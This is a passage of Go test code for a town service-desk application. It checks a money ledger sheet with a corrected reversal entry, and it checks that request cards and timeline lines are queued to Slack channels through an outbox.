	rows, err := x.GetRows(SheetMoney)
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{"代办编号", "收支编号", "类型", "金额（元）", "票据号", "备注或冲正理由", "经办人", "时间", "冲正"},
		{id, fmt.Sprint(wrong), "收取", "200.00", "", "", "李娜", "2026-02-13 09:00", fmt.Sprintf("已由 #%d 冲正", rev)},
		{id, fmt.Sprint(wrong + 1), "支付", "20.00", "", "", "李娜", "2026-02-13 09:00"},
		{id, fmt.Sprint(wrong + 2), "收取", "20.00", "", "", "李娜", "2026-02-13 09:00"},
		{id, fmt.Sprint(rev), "收取", "-200.00", "", "金额录错，应为 20 元", "王芳", "2026-02-13 09:00", fmt.Sprintf("冲正 #%d", wrong)},
	}
	if diff := cmp.Diff(want, rows); diff != "" {
		t.Errorf("%s sheet mismatch (-want +got):\n%s", SheetMoney, diff)
	}
}

// TestChangeFollowsCard: a request made outside chat (the CLI, the
// console) queues its card and first timeline line for the chat front end,
// which finds the town's desk channel; a change made outside chat keeps a
// request's card and timeline up to date through the outbox when the
// request has a card, and queues nothing when it has none.
func TestChangeFollowsCard(t *testing.T) {
	ctx := context.Background()
	d, db, _ := newTestDesk(t)
	withCard, without, pending := mustNew(t, d, validNew()), mustNew(t, d, validNew()), mustNew(t, d, validNew())
	made, err := db.Posts(ctx)
	if err != nil {
		t.Fatal(err)
	}
	var kinds []string
	for _, p := range made {
		kinds = append(kinds, p.RequestID+" "+string(p.Kind)+" "+p.Channel)
		if p.Kind == storage.PostLine && !strings.Contains(p.Body, "已登记") {
			t.Errorf("first timeline line of %s = %q, want the registration", p.RequestID, p.Body)
		}
	}
	if want := []string{withCard + " card ", withCard + " line ", without + " card ", without + " line ", pending + " card ", pending + " line "}; !slices.Equal(kinds, want) {
		t.Errorf("requests made outside chat queued %q, want %q (card and first line each, for the town's desk channel)", kinds, want)
	}
	// The front end has handled them: without's town had no desk channel.
	for _, p := range made {
		if err := db.DropPost(ctx, p.ID); err != nil {
			t.Fatal(err)
		}
	}
	if err := db.SetRequestCard(ctx, withCard, "C0DESKBH01", "1700000000.000100"); err != nil {
		t.Fatal(err)
	}
	// pending's card is still waiting in the outbox (Slack was down).
	if err := db.AddPosts(ctx, storage.Post{Kind: storage.PostCard, RequestID: pending, Channel: "C0DESKBH02"}); err != nil {
		t.Fatal(err)
	}
	before, err := db.Posts(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := d.Move(ctx, RequestMoveInput{Ref: Ref{ID: pending, By: "王芳"}, To: "已受理"}); err != nil {
		t.Fatalf("Move(%s) = %v", pending, err)
	}
	if after, _ := db.Posts(ctx); len(after) != len(before)+2 || after[len(before)+1].Kind != storage.PostLine || after[len(before)+1].Channel != "C0DESKBH02" {
		t.Errorf("a change to a request whose card waits in the outbox queued %+v, want its timeline line for C0DESKBH02", after[len(before):])
	}
	before, err = db.Posts(ctx)
	if err != nil {
		t.Fatal(err)
	}
	for _, id := range []string{withCard, without} {
		if _, err := d.Move(ctx, RequestMoveInput{Ref: Ref{ID: id, By: "王芳"}, To: "已受理"}); err != nil {
			t.Fatalf("Move(%s) = %v", id, err)
		}
	}
	after, err := db.Posts(ctx)
	if err != nil {
		t.Fatal(err)
	}
	kinds = nil
	for _, p := range after[len(before):] {
		if p.RequestID != withCard || p.Channel != "C0DESKBH01" {
			t.Errorf("queued %+v, want posts only for %s's card in C0DESKBH01", p, withCard)
		}
		kinds = append(kinds, string(p.Kind))
		if p.Kind == storage.PostLine && (p.By != "王芳" || !strings.Contains(p.Body, "已受理")) {
			t.Errorf("timeline line %q by %q, want 王芳's move to 已受理", p.Body, p.By)
		}
	}
	if want := []string{string(storage.PostCard), string(storage.PostLine)}; !slices.Equal(kinds, want) {
		t.Errorf("queued %v, want %v (the card updated, then its timeline line)", kinds, want)
	}
}
